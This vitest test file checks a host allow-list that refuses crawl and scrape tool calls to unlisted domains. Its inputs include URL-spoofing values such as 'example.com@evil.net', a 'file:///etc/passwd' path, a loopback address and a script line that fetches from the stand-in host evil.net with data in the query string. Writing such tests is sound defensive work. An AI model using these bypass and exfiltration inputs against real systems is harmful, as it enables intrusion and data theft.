import { describe, expect, it } from 'vitest'
import { createAllowedDomainsSetting, findCrawlRefusalReason } from './allowed-domains.ts'

const { parse } = createAllowedDomainsSetting('Hosts.')

describe('hosts that may be crawled', () => {
  it.each([
    ['example.com', 'https://example.com/a', true],
    ['example.com', 'https://docs.example.com/', true],
    ['example.com', 'https://a.b.example.com:8443/?q=1', true],
    ['example.com', 'HTTPS://EXAMPLE.COM./', true],
    ['Example.COM.', 'https://example.com', true],
    ['example.com', 'https://badexample.com/', false],
    ['example.com', 'https://example.com.evil.net/', false],
    ['example.com', 'https://evil.net/example.com', false],
    ['example.com', 'https://example.com@evil.net/', false],
    ['example.com', 'https://user@example.com/', false],
    ['example.com', 'https://example.com\\@evil.net/', false],
    ['*.example.com', 'https://docs.example.com/', true],
    ['*.example.com', 'https://a.b.example.com/', true],
    ['*.example.com', 'https://example.com/', false],
    ['a.net, *.example.com', 'https://a.net/', true],
    ['a.net, *.example.com', 'https://b.net/', false],
    ['bücher.example', 'https://xn--bcher-kva.example/', true],
    ['docs.example.com', 'https://example.com/', false],
    ['example.com', 'http://127.0.0.1/', false],
    ['example.com', 'file:///etc/passwd', false],
    ['example.com', 'ftp://evil.net/', false],
  ])('%j and %s', (list, url, allowed) => {
    expect(findCrawlRefusalReason('scrape', { url }, parse(list)) === undefined).toBe(allowed)
  })

  it('are all hosts if the list is empty', () => {
    expect(findCrawlRefusalReason('scrape', { url: 'https://anywhere.net' }, parse(undefined))).toBeUndefined()
    expect(findCrawlRefusalReason('agent', { prompt: 'look around', scrapeOptions: {} }, parse(' , '))).toBeUndefined()
  })

  it.each([
    [{ url: 'evil.net/page' }, 'evil.net'],
    [{ urls: ['https://example.com', 'https://evil.net'] }, 'evil.net'],
    [{ deep: { links: [{ url: 'https://evil.net' }] } }, 'evil.net'],
    [{ prompt: 'compare https://example.com/a with (https://evil.net/b)' }, 'evil.net'],
    [{ url: '//evil.net' }, 'evil.net'],
    [{ url: 'https://example.com', script: "fetch('//evil.net/?d=1')" }, 'evil.net'],
    [{ url: 'https://example.com https://evil.net' }, 'invalid URL'],
    [{ url: 'https://[::1' }, 'invalid URL'],
  ])('are checked in all arguments: %j', (given, says) => {
    expect(findCrawlRefusalReason('scrape', given, parse('example.com'))).toContain(says)
  })

  it.each([
    ['firecrawl_search', { query: 'clickhouse too many parts' }, undefined],
    ['firecrawl_search', { query: 'parts', scrapeOptions: { formats: ['markdown'] } }, /scrapeOptions/],
    ['firecrawl_search', { query: 'see https://evil.net' }, /evil\.net/],
    ['firecrawl_check_crawl_status', { id: '7' }, undefined],
    ['firecrawl_crawl', { url: 'https://example.com', allowExternalLinks: true }, /allowExternalLinks/],
    ['firecrawl_crawl', { url: 'https://example.com', allowExternalLinks: false }, undefined],
    ['firecrawl_extract', { urls: ['https://example.com'], enableWebSearch: true }, /enableWebSearch/],
    ['firecrawl_scrape', { url: 'https://example.com', actions: [{ type: 'click', selector: 'a' }] }, /actions/],
    ['firecrawl_agent', { prompt: 'find it anywhere' }, /"firecrawl_agent" is not allowed/],
    [
      'firecrawl_agent',
      { prompt: 'find it anywhere', urls: ['https://example.com'] },
      /"firecrawl_agent" is not allowed/,
    ],
    ['firecrawl_agent_status', { id: '7' }, undefined],
    ['firecrawl_browser_execute', { code: "page.goto('https://example.com')" }, /code/],
    ['firecrawl_extract', { prompt: 'find it' }, /missing URL/],
    ['firecrawl_scrape', {}, /missing URL/],
  ])('allow or forbid %s with %j', (tool, given, says) => {
    const refusal = findCrawlRefusalReason(tool, given, parse('example.com'))
    if (says === undefined) expect(refusal).toBeUndefined()
    else expect(refusal).toMatch(says)
  })

  it('are listed in the error, at most five', () => {
    expect(
      findCrawlRefusalReason('scrape', { url: 'https://evil.net' }, parse('a.net,*.b.net,c.net,d.net,e.net,f.net')),
    ).toBe('host "evil.net" is not allowed; allowed hosts: a.net, *.b.net, c.net, d.net, e.net and others')
  })

  it.each(['https://example.com', 'example.com/path', 'example.com:80', '*', '*.*.com', 'a b', 'user@example.com'])(
    'are rejected if they are not hosts: %s',
    (text) => {
      expect(() => parse(text)).toThrow(/^must be hosts such as example\.com/)
    },
  )
})
